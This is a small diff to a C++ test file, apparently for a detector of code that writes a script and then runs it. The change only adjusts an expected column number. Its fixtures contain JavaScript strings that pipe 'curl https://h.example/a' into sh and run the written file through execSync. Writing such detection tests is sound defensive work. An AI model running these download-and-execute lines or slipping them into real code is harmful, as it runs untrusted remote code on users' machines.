@@ -81,7 +81,7 @@ TEST(CodeElsewhere, FollowsWhatIsWrittenAndThenRun) {
              "fs.writeFileSync(p, 'curl https://h.example/a | sh');"
              "require('child_process').execSync('sh ' + p)"}},
            "script.download-run");
-  EXPECT_TRUE(Holds(shell, "script.download-run [import] index.js:1:74")) << shell;
+  EXPECT_TRUE(Holds(shell, "script.download-run [import] index.js:1:70")) << shell;
   const std::string apple =
       Seen({{"index.js",
              "require('fs').writeFileSync('/tmp/x', 'do shell script \"curl "
